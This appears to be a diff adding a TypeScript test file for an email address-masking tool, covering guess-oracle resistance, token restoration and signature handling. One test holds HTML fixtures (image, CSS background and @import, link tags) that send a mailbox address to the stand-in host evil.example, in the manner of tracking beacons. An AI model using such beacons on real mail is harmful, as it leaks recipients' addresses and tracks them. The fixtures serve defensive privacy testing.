@@ -1,0 +1,92 @@
+// What a contact sent comes back as it was sent, whatever it guessed: over random mails, every shape of client in the tree and
+// quotes in many languages, the answers to a list of guesses with the mailbox on it and to one without are the same.
+// POSTERN_ORACLE_PAIRS=10000 looks at more pairs.
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { differenceOf, PAIRS, play } from "./oracle-play.fixture.ts";
+import { diceOf } from "./random-tree.fixture.ts";
+import { createReplacer } from "./scrub/replace-addresses.ts";
+import { createHider, keepingSent, tokenDigest } from "./sent-content.ts";
+
+const COUNT = Number(process.env.POSTERN_ORACLE_PAIRS ?? 150);
+
+test("a list of guesses comes back the same, with the mailbox on it and without", (context) => {
+  const found: string[] = [];
+  const kinds = { built: 0, held: 0, refused: 0 };
+  for (let seed = 1; seed <= COUNT; seed += 1) {
+    const [owner, other] = PAIRS[seed % PAIRS.length] as readonly [string, string];
+    const redact = (["all", "all", "quoted", "off"] as const)[seed % 4];
+    const [one, two] = [owner, other].map((guess) => play(() => diceOf(seed), owner, guess, redact).reply);
+    assert.ok(one && two);
+    kinds[two.kind] += 1;
+    const difference = differenceOf(one, two);
+    if (difference !== null) found.push(`${seed}: ${difference}`);
+  }
+  context.diagnostic(`${COUNT} pairs: ${JSON.stringify(kinds)}, ${found.length} different`);
+  assert.deepEqual(found.slice(0, 12), []);
+});
+
+const OWNER = "lena.quokka@privat.example";
+const TOKEN = { reverse: `r.${"c".repeat(26)}@mask.example`, email: OWNER };
+const KEY = "00";
+
+test("nothing that a program fetches is changed on the way in, and what it shows holds no mailbox", () => {
+  const hider = createHider([TOKEN], KEY);
+  const fetched = [
+    `<img src="https://evil.example/?e=${OWNER}">`,
+    `<img src='//evil.example/${OWNER.replace("@", "%40")}'>`,
+    `<td background=https://evil.example/${OWNER}>`,
+    `<p style="background:url(https://evil.example/${OWNER})">`,
+    `<style>@import url(https://evil.example/${OWNER});</style>`,
+    `<a href="https://evil.example/?e=${OWNER}">x</a>`,
+  ];
+  for (const html of fetched) assert.equal(hider.html(html).text, html);
+  const shown = [OWNER, OWNER.toUpperCase(), OWNER.replace("@", "&#64;"), "lena.quokka at privat.example"];
+  for (const text of shown) assert.doesNotMatch(hider.html(`<p>${text}</p>`).text, /quokka/i, text);
+  assert.equal(hider.html(`<base href="https://evil.example/"><p>x</p>`).text, "<p>x</p>");
+});
+
+test("a token is let out for whom its spelling came from, and for nobody else", () => {
+  const hider = createHider([TOKEN], KEY);
+  const spelled = "LENA.Quokka@privat.example";
+  const token = hider.text(spelled).text;
+  assert.match(token, /^r\.c{26}\+c[a-z2-7]+@mask\.example$/);
+  const others = createReplacer([{ from: TOKEN.reverse, to: "k3x@mask.example" }]);
+  const keeping = (digests: Iterable<string>) =>
+    keepingSent(
+      createReplacer([
+        { from: OWNER, to: "k3x@mask.example" },
+        { from: TOKEN.reverse, to: "k3x@mask.example" },
+      ]),
+      {
+        ...{
+          sent: { key: KEY, digests: [...digests], tokens: [TOKEN] },
+          restored: [],
+          seed: "seedseed",
+          taken: false,
+          others,
+        },
+      },
+    );
+  assert.equal(keeping(hider.digests).text(`> ${token}, ${OWNER}`).text, `> ${spelled}, k3x@mask.example`);
+  for (const digests of [[], ["AAAAAAAAAAAAAAAAAAAAAA"], [tokenDigest(KEY, OWNER)]]) {
+    assert.equal(keeping(digests).text(`> ${token}, ${OWNER}`).text, "> k3x@mask.example, k3x@mask.example");
+  }
+});
+
+test("an owner's own link and signature are no contact's, whatever that guessed", () => {
+  const hider = createHider([TOKEN], KEY);
+  hider.html(`<p>${OWNER}</p><a href="https://evil.example/${OWNER}">x</a><a href="mailto:${OWNER}">y</a>`);
+  const hidden = createReplacer([{ from: OWNER, to: "k3x@mask.example" }]);
+  const { html } = keepingSent(hidden, {
+    ...{
+      sent: { key: KEY, digests: [...hider.digests], tokens: [TOKEN] },
+      restored: [],
+      seed: "seedseed",
+      taken: false,
+    },
+    others: createReplacer([]),
+  });
+  const own = `<a href="mailto:${OWNER}">${OWNER}</a> <a href="https://own.example/${OWNER}">me</a> ${OWNER.replace("@", "&#64;")}`;
+  assert.doesNotMatch(html(own).text, /quokka/);
+});
